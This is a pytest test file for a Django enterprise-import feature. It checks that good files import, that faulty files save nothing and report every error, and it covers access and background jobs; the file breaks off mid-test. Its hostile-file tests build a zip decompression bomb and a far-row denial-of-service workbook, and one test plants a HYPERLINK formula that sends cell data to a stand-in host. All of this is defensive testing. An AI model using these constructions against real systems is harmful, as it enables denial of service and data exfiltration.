"""Enterprise import: good files, files with errors (nothing saved, every error reported), non-spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from safetyops.core.models import AuditEvent
from safetyops.orgs.creditcode import ALPHABET, check_character, credit_code_problem
from safetyops.orgs.importing import (
    COLUMNS,
    ImportFileError,
    enterprise_import_run,
    enterprise_imports_requeue_stale,
    parse_rows,
)
from safetyops.orgs.models import Enterprise, EnterpriseImport, Membership, Node, Role, Sector, User
from tests.conftest import World
from tests.orgs.factories import NodeFactory, make_credit_code

HEADERS = [column.header for column in COLUMNS]
PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)


def code(seed: int) -> str:
    # Never a multiple of 7919, the stride the factories use, so no clash with the world's enterprises.
    return make_credit_code(seed * 7919 + 1)


def row(name: str, credit_code: Any, node: str, sectors: str, principal: str = "王五", **extra: str) -> list[Any]:
    values = {
        "企业名称": name,
        "统一社会信用代码": credit_code,
        "所在地区": node,
        "行业领域": sectors,
        "主要负责人": principal,
        **extra,
    }
    return [values.get(column.name, "") for column in COLUMNS]


def make_xlsx(rows: list[list[Any]], headers: list[str] = HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for values in rows:
        sheet.append(values)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def make_csv(rows: list[list[Any]], headers: list[str] = HEADERS, encoding: str = "utf-8-sig") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def upload(client: Client, capture: Any, content: bytes, name: str) -> Any:
    with capture(execute=True):
        return client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile(name, content)})


def latest_import() -> EnterpriseImport:
    return EnterpriseImport.objects.latest("pk")


def make_job(user: User, content: bytes, name: str = "企业.csv", **fields: Any) -> EnterpriseImport:
    return EnterpriseImport.objects.create(
        created_by=user, original_name=name, file=ContentFile(content, name=name), **fields
    )


# Good files ------------------------------------------------------------------------------------


def test_good_xlsx_creates_enterprises_with_node_sectors_and_audit(
    client: Client, world: World, django_capture_on_commit_callbacks: Any
) -> None:
    # Headers with surrounding spaces, half-width brackets and no asterisk are still recognised.
    headers = list(HEADERS)
    headers[2] = " 所在地区*(区划代码或名称) "
    headers[3] = "行业领域"
    rows = [
        row("东城精细化工有限公司", code(1), "330001001", "危险化学品、粉尘涉爆", 地址="东城镇工业路1号"),
        row(
            "东村建筑劳务有限公司",
            code(2).lower(),
            "东村",
            "construction; 有限空间",
            主要负责人电话="13812345678",
            经营状态="停产",
            风险等级="红",
            重大危险源="是",
            从业人员数="120",
        ),
    ]
    client.force_login(world.official_a)
    before = Enterprise.objects.count()

    response = upload(client, django_capture_on_commit_callbacks, make_xlsx(rows), "企业名单.xlsx")

    job = latest_import()
    assert response.status_code == 302
    assert response.url == reverse("orgs:enterprise_import_detail", args=[job.pk])
    assert job.status == EnterpriseImport.Status.DONE, job.errors
    assert (job.total_rows, job.created_count, job.errors) == (2, 2, [])
    assert job.finished_at is not None
    assert Enterprise.objects.count() == before + 2

    first = Enterprise.objects.get(credit_code=code(1))
    assert first.node == world.town_a
    assert first.address == "东城镇工业路1号"
    assert sorted(first.sectors.values_list("code", flat=True)) == ["dust-explosion", "hazchem"]
    assert (first.status, first.risk_level, first.has_major_hazard_source) == ("operating", "low", False)

    second = Enterprise.objects.get(credit_code=code(2))
    assert second.node == world.village_a
    assert sorted(second.sectors.values_list("code", flat=True)) == ["confined-space", "construction"]
    assert (second.status, second.risk_level, second.has_major_hazard_source) == ("suspended", "major", True)
    assert (second.employees, second.principal_phone) == (120, "13812345678")

    event = AuditEvent.objects.get(action="orgs.enterprise.imported")
    assert (event.actor, event.target_id, event.data) == (world.official_a, str(job.pk), {"count": 2})

    page = client.get(response.url)
    assert page.status_code == 200
    assert "已导入 2 家企业" in page.content.decode()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_good_csv_creates_enterprises(
    client: Client, world: World, django_capture_on_commit_callbacks: Any, encoding: str
) -> None:
    rows = [
        row("西山烟花爆竹批发部", code(11), "330001002", "fireworks", 风险等级="较大风险（橙）"),
        row("东城冷库有限公司", code(12), "东城镇", "冷库，涉氨制冷", 从业人员数="35"),
    ]
    client.force_login(world.county_admin)

    upload(client, django_capture_on_commit_callbacks, make_csv(rows, encoding=encoding), "名单.csv")

    job = latest_import()
    assert job.status == EnterpriseImport.Status.DONE, job.errors
    assert job.created_count == 2
    west = Enterprise.objects.get(credit_code=code(11))
    assert (west.name, west.node, west.risk_level) == ("西山烟花爆竹批发部", world.town_b, "significant")
    assert list(west.sectors.values_list("code", flat=True)) == ["fireworks"]
    cold = Enterprise.objects.get(credit_code=code(12))
    assert cold.node == world.town_a
    assert sorted(cold.sectors.values_list("code", flat=True)) == ["ammonia-refrigeration", "cold-storage"]
    assert AuditEvent.objects.filter(action="orgs.enterprise.imported", target_id=str(job.pk)).count() == 1


# Errors ----------------------------------------------------------------------------------------


def with_wrong_check_character(value: str) -> str:
    wrong = next(char for char in "0123456789" if char != value[17])
    return value[:17] + wrong


def test_file_with_errors_saves_nothing_and_reports_every_error(
    client: Client, world: World, django_capture_on_commit_callbacks: Any
) -> None:
    forbidden = code(23)[:9] + "I" + code(23)[10:]
    rows = [
        row("好企业有限公司", code(21), "东城镇", "危险化学品"),  # row 2: valid, but must not be saved either
        row("校验位错误公司", with_wrong_check_character(code(22)), "东城镇", "危险化学品"),  # 3
        row("字母错误公司", forbidden, "东城镇", "危险化学品"),  # 4
        row("地区不存在公司", code(24), "桃花源镇", "危险化学品"),  # 5
        row("外镇公司", code(25), "西山镇", "危险化学品"),  # 6: another township than official_a's
        row("行业不存在公司", code(26), "东城镇", "危险化学品、火星采矿"),  # 7
        row("重复甲公司", code(28), "东城镇", "建筑施工"),  # 8
        row("重复乙公司", code(28), "东村", "建筑施工"),  # 9
        row("已登记公司", world.ent_b.credit_code, "东城镇", "建筑施工"),  # 10
        row("", code(30), "东城镇", "建筑施工"),  # 11: name missing
    ]
    client.force_login(world.official_a)
    enterprises_before = Enterprise.objects.count()

    upload(client, django_capture_on_commit_callbacks, make_xlsx(rows), "有错误.xlsx")

    job = latest_import()
    assert job.status == EnterpriseImport.Status.FAILED
    assert (job.total_rows, job.created_count) == (10, 0)
    assert Enterprise.objects.count() == enterprises_before
    assert not Enterprise.objects.filter(credit_code=code(21)).exists()
    assert not AuditEvent.objects.filter(action="orgs.enterprise.imported").exists()

    found = {(error["row"], error["column"]): error["message"] for error in job.errors}
    assert set(found) == {
        (3, "统一社会信用代码"),
        (4, "统一社会信用代码"),
        (5, "所在地区"),
        (6, "所在地区"),
        (7, "行业领域"),
        (8, "统一社会信用代码"),
        (9, "统一社会信用代码"),
        (10, "统一社会信用代码"),
        (11, "企业名称"),
    }
    assert len(job.errors) == len(found)
    assert "校验位" in found[(3, "统一社会信用代码")]
    assert "I" in found[(4, "统一社会信用代码")]
    assert "“桃花源镇”不存在或不在您的管辖范围内" in found[(5, "所在地区")]
    assert "“西山镇”不存在或不在您的管辖范围内" in found[(6, "所在地区")]
    assert "火星采矿" in found[(7, "行业领域")] and "危险化学品" not in found[(7, "行业领域")]
    assert "第9行" in found[(8, "统一社会信用代码")]
    assert "第8行" in found[(9, "统一社会信用代码")]
    assert "已在系统中登记" in found[(10, "统一社会信用代码")]
    assert world.ent_b.name not in found[(10, "统一社会信用代码")]  # nothing about an enterprise out of scope
    assert "不能为空" in found[(11, "企业名称")]

    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
    assert "未导入任何数据" in page
    for error in job.errors:
        assert error["message"] in page
    assert world.ent_b.name not in page


def test_ambiguous_node_name_asks_for_the_code(
    client: Client, world: World, django_capture_on_commit_callbacks: Any
) -> None:
    NodeFactory(code="330001001002", name="东村", parent=world.town_a, level=Node.Level.VILLAGE, kind=Node.Kind.VILLAGE)
    client.force_login(world.official_a)

    upload(client, django_capture_on_commit_callbacks, make_csv([row("某公司", code(40), "东村", "冷库")]), "a.csv")

    job = latest_import()
    assert job.status == EnterpriseImport.Status.FAILED
    [error] = job.errors
    assert (error["row"], error["column"]) == (2, "所在地区")
    assert "330001001001" in error["message"] and "330001001002" in error["message"]
    assert "区划代码" in error["message"]


def test_bad_values_in_optional_columns_are_reported(world: World) -> None:
    content = make_csv(
        [
            row(
                "某公司",
                code(41),
                "东城镇",
                "冷库",
                经营状态="歇业",
                风险等级="紫",
                重大危险源="也许",
                从业人员数="很多",
            )
        ]
    )
    job = make_job(world.official_a, content)

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert [error["column"] for error in job.errors] == ["经营状态", "风险等级", "重大危险源", "从业人员数"]
    assert not Enterprise.objects.filter(credit_code=code(41)).exists()


def test_missing_required_column_is_a_file_error(world: World) -> None:
    headers = [header for header in HEADERS if not header.startswith("主要负责人*")]
    content = make_csv([row("某公司", code(42), "东城镇", "冷库")[:-1]], headers=headers)
    job = make_job(world.official_a, content)

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.FAILED
    assert [(error["row"], error["column"]) for error in job.errors] == [(1, "主要负责人")]


def test_credit_code_mangled_by_excel_gets_a_hint_and_a_valid_code_with_e_is_fine(world: World) -> None:
    body = "91149307618428E03"  # a valid code that a careless check would take for 9.1E+...
    with_e = body + check_character(body)
    rows = [
        row("数字公司", 9.13300001234568e17, "东城镇", "冷库"),
        row("字母公司", with_e, "东城镇", "冷库"),
    ]
    job = make_job(world.official_a, make_xlsx(rows), name="a.xlsx")

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert [(error["row"], error["column"]) for error in job.errors] == [(2, "统一社会信用代码")]
    assert "科学计数法" in job.errors[0]["message"]


@pytest.mark.parametrize(
    ("entered", "stored"),
    [
        ("13812345678", "13812345678"),
        ("+86 138 1234 5678", "13812345678"),
        ("0571-88886666", "0571-88886666"),
        ("（0571）8888 6666转123", "0571-88886666-123"),
        ("010-88886666、13900001111", "010-88886666、13900001111"),
    ],
)
def test_phone_numbers_are_stored_normalised(world: World, entered: str, stored: str) -> None:
    job = make_job(world.official_a, make_csv([row("电话公司", code(43), "东城镇", "冷库", 主要负责人电话=entered)]))

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.DONE, job.errors
    assert Enterprise.objects.get(credit_code=code(43)).principal_phone == stored


@pytest.mark.parametrize("entered", ["12345", "1381234567", "12812345678", "88886666", "0571-0888666", "电话"])
def test_a_phone_number_that_is_not_one_is_refused(world: World, entered: str) -> None:
    job = make_job(world.official_a, make_csv([row("电话公司", code(44), "东城镇", "冷库", 安全管理员电话=entered)]))

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    [error] = job.errors
    assert (error["row"], error["column"]) == (2, "安全管理员电话")
    assert f"“{entered}”不是有效的电话号码" in error["message"] and "0571-88886666" in error["message"]
    assert not Enterprise.objects.filter(credit_code=code(44)).exists()


def test_errors_quote_at_most_fifty_characters_and_stop_at_two_hundred(
    client: Client, world: World, settings: Any
) -> None:
    # The attack of the issue: 1,000 rows with a 50 KB phone number each (shared strings: a small
    # file) stored a 50 MB error record and made a 49 MB result page. openpyxl writes the string
    # into every cell instead (33 MB of XML, 335:1), so the bomb check is relaxed for this test.
    settings.IMPORT_MAX_COMPRESSION_RATIO = 1000
    huge = "1" * 50_000
    rows = [row(f"公司{n}", code(100 + n), "东城镇", "冷库", 主要负责人电话=huge) for n in range(1000)]
    content = make_xlsx(rows)
    assert len(content) < 400_000
    job = make_job(world.official_a, content, name="长号码.xlsx")

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.FAILED and job.total_rows == 1000
    assert len(job.errors) == 201
    assert all(f"“{'1' * 50}…”不是有效的电话号码" in error["message"] for error in job.errors[:200])
    assert [error["row"] for error in job.errors[:200]] == list(range(2, 202))
    assert "另有 800 条错误未列出（共 1000 条，涉及 1000 行）" in job.errors[200]["message"]
    stored = len(json.dumps(job.errors, ensure_ascii=False).encode())
    assert stored < 100_000  # was 50 MB

    client.force_login(world.official_a)
    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
    assert len(page.encode()) < 250_000  # was 49 MB
    assert "共发现 1000 处错误，涉及 1000 行" in page
    assert "另有 800 条错误未列出" in page
    assert not Enterprise.objects.filter(name__startswith="公司").exists()


# Not a spreadsheet ----------------------------------------------------------------------------


def zip_that_is_not_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PNG_BYTES, "照片.xlsx"),
        (bytes(range(256)) * 8, "random.csv"),
        (zip_that_is_not_a_workbook(), "archive.xlsx"),
    ],
    ids=["png-renamed", "random-bytes", "zip-not-workbook"],
)
def test_a_file_that_is_not_a_spreadsheet_is_refused(
    client: Client, world: World, django_capture_on_commit_callbacks: Any, content: bytes, name: str
) -> None:
    client.force_login(world.official_a)
    before = Enterprise.objects.count()

    upload(client, django_capture_on_commit_callbacks, content, name)

    job = latest_import()
    assert job.status == EnterpriseImport.Status.FAILED
    assert len(job.errors) == 1
    assert job.errors[0]["row"] == 0
    assert "文件不是有效的 Excel(.xlsx) 或 CSV 文件" in job.errors[0]["message"]
    assert Enterprise.objects.count() == before
    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
    assert "文件不是有效的 Excel(.xlsx) 或 CSV 文件" in page


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "文件是空的"),
        ("\ufeff".encode() + ",".join(HEADERS).encode() + b"\r\n,,,\r\n", "没有企业数据"),
        ("名称,电话\r\n甲,1\r\n".encode(), "没有找到表头"),
    ],
    ids=["empty", "header-only", "no-header"],
)
def test_empty_or_headerless_files_are_file_errors(content: bytes, message: str) -> None:
    with pytest.raises(ImportFileError) as raised:
        parse_rows(io.BytesIO(content))
    assert message in raised.value.errors[0]["message"]


def test_row_limit_is_enforced(world: World, settings: Any) -> None:
    settings.IMPORT_MAX_ROWS = 3
    rows = [row(f"公司{n}", code(50 + n), "东城镇", "冷库") for n in range(4)]
    job = make_job(world.official_a, make_csv(rows))

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.FAILED
    assert "一次最多导入 3 行" in job.errors[0]["message"]
    assert not Enterprise.objects.filter(name__startswith="公司").exists()


# Hostile files --------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def with_member(content: bytes, name: str, body: bytes, compress_type: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The .xlsx `content` with its member `name` replaced by `body`."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename == name:
                archive.writestr(name, body, compress_type=compress_type)
            else:
                archive.writestr(info.filename, source.read(info.filename))
    return out.getvalue()


def deflated(data: bytes, mode: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(mode)


def whitespace_bomb(megabytes: int) -> bytes:
    """A real workbook whose sheet XML holds `megabytes` MB of spaces after its first row (the
    attack of the issue: 400 MB in a 400 KB file), built without ever holding the spaces: the
    deflate stream of 1 MB of spaces, fully flushed so that each copy stands alone, is repeated,
    stored, and the zip headers are then given the true method, CRC and inflated size."""
    content = make_xlsx([row("甲公司", code(60), "东城镇", "冷库")])
    head, tail = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).split(b"</row>", 1)
    head += b"</row>"
    spaces = b" " * (1 << 20)
    stream = deflated(head, zlib.Z_FULL_FLUSH) + deflated(spaces, zlib.Z_FULL_FLUSH) * megabytes
    stream += deflated(tail, zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(spaces, crc)
    fields = struct.pack("<III", zlib.crc32(tail, crc), len(stream), len(head) + len(spaces) * megabytes + len(tail))

    data = bytearray(with_member(content, SHEET, stream, compress_type=zipfile.ZIP_STORED))
    local = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET).header_offset
    central = data.index(b"PK\x01\x02")
    while bytes(data[central + 46 : central + 46 + len(SHEET)]) != SHEET.encode():
        central = data.index(b"PK\x01\x02", central + 4)
    for method_at, fields_at in ((local + 8, local + 14), (central + 10, central + 16)):
        data[method_at : method_at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
        data[fields_at : fields_at + 12] = fields
    return bytes(data)


def far_row_xlsx(*, declared: str | None) -> bytes:
    """A small workbook with one cell at XFD1048576; its <dimension> says `declared` (None: absent)."""
    content = make_xlsx([row("甲公司", code(61), "东城镇", "冷库")])
    xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).decode()
    xml = re.sub(r"<dimension [^>]*/>", f'<dimension ref="{declared}"/>' if declared else "", xml)
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return with_member(content, SHEET, xml.replace("</sheetData>", far + "</sheetData>").encode())


@pytest.fixture
def openpyxl_never_loads(monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("openpyxl was asked to load a hostile file")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


def refused_quickly(content: bytes) -> tuple[str, float, int]:
    """parse_rows' error for `content`, the seconds it took and its peak Python memory in bytes."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ImportFileError) as raised:
            parse_rows(content)
        return raised.value.errors[0]["message"], time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_whitespace_bomb_is_refused_from_the_zip_directory(
    world: World, openpyxl_never_loads: None, settings: Any
) -> None:
    content = whitespace_bomb(400)  # 400 MB of sheet XML in a file of about 420 KB
    assert len(content) < 500_000
    assert zipfile.ZipFile(io.BytesIO(content)).getinfo(SHEET).file_size > 400_000_000

    message, seconds, peak = refused_quickly(content)

    # Before: 1.2 GB and 10 s, or a MemoryError reported as "not a valid Excel file".
    assert "解压后有 400 MB，超过上限 150 MB" in message
    assert seconds < 1 and peak < 20_000_000

    job = make_job(world.official_a, content, name="炸弹.xlsx")
    enterprise_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.FAILED and job.errors[0]["message"] == message
    assert not Enterprise.objects.filter(name="甲公司").exists()


def test_a_member_that_inflates_too_far_is_refused_even_under_the_size_cap(openpyxl_never_loads: None) -> None:
    content = whitespace_bomb(100)  # 100 MB: under the 150 MB cap, but 1000 times its compressed size

    message, seconds, peak = refused_quickly(content)

    assert "“xl/worksheets/sheet1.xml”解压后是压缩时的" in message and "正常的表格不超过 100 倍" in message
    assert seconds < 1 and peak < 20_000_000


def test_the_bomb_is_real(settings: Any) -> None:
    # Without the caps the same file reaches openpyxl and inflates to its declared size.
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 10**10
    settings.IMPORT_MAX_COMPRESSION_RATIO = 10**6
    with zipfile.ZipFile(io.BytesIO(whitespace_bomb(8))) as archive:
        assert len(archive.read(SHEET)) > 8 * 1024 * 1024  # CRC and size check out
    [record] = parse_rows(whitespace_bomb(8))
    assert record["企业名称"] == "甲公司"


@pytest.mark.parametrize("declared", ["A1:XFD1048576", None], ids=["declared", "no-dimension"])
def test_a_row_far_down_the_sheet_is_refused_without_reading_up_to_it(declared: str | None) -> None:
    content = far_row_xlsx(declared=declared)
    assert len(content) < 10_000

    message, seconds, _peak = refused_quickly(content)

    # Before: openpyxl padded a million empty rows of 16,384 cells (47-62 s of worker time).
    if declared:
        assert "声明的数据范围是 A1:XFD1048576（到第 1048576 行），超过了一次最多导入的 50000 家企业" in message
    else:
        assert "第 1048576 行仍有内容或格式，超过了一次最多导入的 50000 家企业" in message
    assert seconds < 1


def test_blank_rows_and_far_columns_within_the_limits_still_import() -> None:
    # A company under 57 blank rows, and a note in column ZZ (beyond the 64 columns read): both fine.
    content = make_xlsx([row("甲公司", code(62), "东城镇", "冷库")])
    cells = [("A", "乙公司"), ("B", code(63)), ("C", "东城镇"), ("D", "冷库"), ("F", "王五"), ("ZZ", "备注")]
    far = "".join(f'<c r="{column}60" t="inlineStr"><is><t>{value}</t></is></c>' for column, value in cells)
    xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).decode()
    xml = re.sub(r"<dimension [^>]*/>", '<dimension ref="A1:ZZ60"/>', xml)
    xml = xml.replace("</sheetData>", f'<row r="60">{far}</row></sheetData>')

    records = parse_rows(with_member(content, SHEET, xml.encode()))

    assert [(record["_row"], record["企业名称"], record["主要负责人"]) for record in records] == [
        (2, "甲公司", "王五"),
        (60, "乙公司", "王五"),
    ]


# Upload form ----------------------------------------------------------------------------------


def test_upload_over_the_size_cap_is_refused_with_a_clear_message(client: Client, world: World, settings: Any) -> None:
    settings.IMPORT_MAX_BYTES = 1024
    client.force_login(world.official_a)

    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile("big.csv", b"x" * 2048)})

    assert response.status_code == 200
    assert "超过了" in response.content.decode() and "上限" in response.content.decode()
    assert not EnterpriseImport.objects.exists()


@pytest.mark.parametrize("name", ["名单.txt", "名单.xls", "名单"])
def test_upload_with_another_extension_is_refused(client: Client, world: World, name: str) -> None:
    client.force_login(world.official_a)

    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile(name, b"a,b\r\n")})

    assert response.status_code == 200
    assert ".xlsx" in response.content.decode()
    assert not EnterpriseImport.objects.exists()


def test_start_page_lists_only_my_recent_imports(client: Client, world: World) -> None:
    make_job(world.official_a, b"x", name="我的文件.csv")
    make_job(world.official_b, b"x", name="别人的文件.csv")
    client.force_login(world.official_a)

    page = client.get(reverse("orgs:enterprise_import")).content.decode()

    assert "我的文件.csv" in page
    assert "别人的文件.csv" not in page
    assert 'enctype="multipart/form-data"' in page


# Template -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "text/csv; charset=utf-8"),
    ],
)
def test_template_parses_back_and_its_example_row_imports(
    client: Client, world: World, django_capture_on_commit_callbacks: Any, fmt: str, content_type: str
) -> None:
    client.force_login(world.official_a)

    response = client.get(reverse("orgs:enterprise_import_template", args=[fmt]))

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert "attachment" in response["Content-Disposition"]
    assert "filename*=utf-8''" in response["Content-Disposition"]
    content = response.content
    if fmt == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
    else:
        assert "填写说明" in load_workbook(io.BytesIO(content)).sheetnames
    [example] = parse_rows(io.BytesIO(content))
    assert example["_row"] == 2
    assert credit_code_problem(example["统一社会信用代码"]) is None

    upload(client, django_capture_on_commit_callbacks, content, f"模板.{fmt}")

    job = latest_import()
    assert job.status == EnterpriseImport.Status.DONE, job.errors
    created = Enterprise.objects.get(credit_code=example["统一社会信用代码"])
    assert created.node == world.town_a
    assert created.sectors.exists()


def test_xlsx_template_lists_rules_and_sectors(client: Client, world: World) -> None:
    client.force_login(world.official_a)
    content = client.get(reverse("orgs:enterprise_import_template", args=["xlsx"])).content

    notes = load_workbook(io.BytesIO(content))["填写说明"]
    text = "\n".join(str(cell) for values in notes.iter_rows(values_only=True) for cell in values if cell)
    for expected in ("全部或全不", "统一社会信用代码", "危险化学品", "消防（人员密集场所）"):
        assert expected in text
    # The sectors by their Chinese names only: no English codes (hazchem, fire-crowded ...).
    codes = set(Sector.objects.values_list("code", flat=True))
    assert not codes & set(re.findall(r"[a-z][a-z-]+", text))


def test_every_text_in_the_template_is_text_never_a_formula(client: Client, world: World) -> None:
    # A sector or region name is data; one beginning with "=" must not become a formula.
    world.sector_chem.name = '=HYPERLINK("http://e.x/?"&A2,"危化")'  # fits 40 chars
    world.sector_chem.save()
    client.force_login(world.official_a)
    content = client.get(reverse("orgs:enterprise_import_template", args=["xlsx"])).content

    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for cells in sheet.iter_rows() for cell in cells if cell.value is not None]
    evil = [cell for cell in cells if cell.value == world.sector_chem.name]
    assert evil and all(cell.data_type == "s" and cell.quotePrefix for cell in evil)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)


def test_unknown_template_format_is_404(client: Client, world: World) -> None:
    client.force_login(world.official_a)
    assert client.get(reverse("orgs:enterprise_import_template", args=["xls"])).status_code == 404


# Access ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("username", ["supervisor_a", "leader_a", "leader_county", "enterprise_a", "nobody"])
def test_it_requires_the_import_right(client: Client, world: World, username: str) -> None:
    job = make_job(world.official_a, b"x")
    client.force_login(world.users()[username])

    urls = [
        reverse("orgs:enterprise_import"),
        reverse("orgs:enterprise_import_template", args=["xlsx"]),
        reverse("orgs:enterprise_import_template", args=["csv"]),
    ]
    for url in urls:
        assert client.get(url).status_code == 403, url
    # Someone else's upload is outside every scope but its owner's: 404 before any right check.
    assert client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).status_code == 404
    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile("a.csv", b"a")})
    assert response.status_code == 403
    assert EnterpriseImport.objects.count() == 1


def test_anonymous_is_sent_to_login(client: Client, world: World) -> None:
    response = client.get(reverse("orgs:enterprise_import"))
    assert response.status_code == 302
    assert reverse("login") in response.url


@pytest.mark.parametrize("username", ["official_b", "county_admin"])
def test_it_checks_ownership(client: Client, world: World, username: str) -> None:
    job = make_job(world.official_a, b"x")
    client.force_login(world.users()[username])
    assert client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).status_code == 404


# Running --------------------------------------------------------------------------------------


def test_running_twice_creates_nothing_the_second_time(world: World) -> None:
    job = make_job(world.official_a, make_csv([row("一次公司", code(60), "东城镇", "冷库")]))

    enterprise_import_run(import_id=job.pk)
    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.created_count) == (EnterpriseImport.Status.DONE, 1)
    assert Enterprise.objects.filter(credit_code=code(60)).count() == 1
    assert AuditEvent.objects.filter(action="orgs.enterprise.imported").count() == 1


def test_a_running_import_is_left_alone_until_it_is_stale(world: World) -> None:
    job = make_job(
        world.official_a,
        make_csv([row("中断公司", code(61), "东城镇", "冷库")]),
        status=EnterpriseImport.Status.RUNNING,
        started_at=timezone.now() - timedelta(minutes=5),
    )

    enterprise_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.RUNNING
    assert not Enterprise.objects.filter(credit_code=code(61)).exists()

    EnterpriseImport.objects.filter(pk=job.pk).update(started_at=timezone.now() - timedelta(minutes=16))
    enterprise_import_run(import_id=job.pk)
    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.DONE
    assert Enterprise.objects.filter(credit_code=code(61)).exists()


def test_stale_imports_are_queued_again(world: World) -> None:
    long_ago = timezone.now() - timedelta(minutes=20)
    content = make_csv([row("补跑公司", code(64), "东城镇", "冷库")])
    stale = make_job(world.official_a, content, status=EnterpriseImport.Status.RUNNING, started_at=long_ago)
    fresh = make_job(world.official_a, make_csv([row("新公司", code(65), "东城镇", "冷库")]))

    assert enterprise_imports_requeue_stale() == 1  # the task runs eagerly in tests

    stale.refresh_from_db()
    fresh.refresh_from_db()
    assert stale.status == EnterpriseImport.Status.DONE
    assert fresh.status == EnterpriseImport.Status.PENDING


def test_the_right_is_checked_again_when_the_import_runs(world: World) -> None:
    job = make_job(world.official_a, make_csv([row("权限公司", code(62), "东城镇", "冷库")]))
    Membership.objects.filter(user=world.official_a).update(role=Role.LEADER)

    enterprise_import_run(import_id=job.pk)

    job.refresh_from_db()
    assert job.status == EnterpriseImport.Status.FAILED
    assert "没有导入企业的权限" in job.errors[0]["message"]
    assert not Enterprise.objects.filter(credit_code=code(62)).exists()


def test_status_card_polls_while_pending_and_stops_when_finished(client: Client, world: World) -> None:
    job = make_job(world.official_a, make_csv([row("轮询公司", code(63), "东城镇", "冷库")]))
    client.force_login(world.official_a)
    url = reverse("orgs:enterprise_import_detail", args=[job.pk])

    full = client.get(url).content.decode()
    partial = client.get(url, headers={"HX-Request": "true"}).content.decode()

    assert "<html" in full and 'hx-trigger="every 1s"' in full
    assert "<html" not in partial
    assert f'hx-get="{url}"' in partial and 'hx-trigger="every 1s"' in partial and 'hx-swap="outerHTML"' in partial

    enterprise_import_run(import_id=job.pk)
    finished = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in finished
    assert "已导入 1 家企业" in finished


@pytest.mark.slow
def test_ten_thousand_rows_import(world: World) -> None:
    total = 10_000
    rows = [
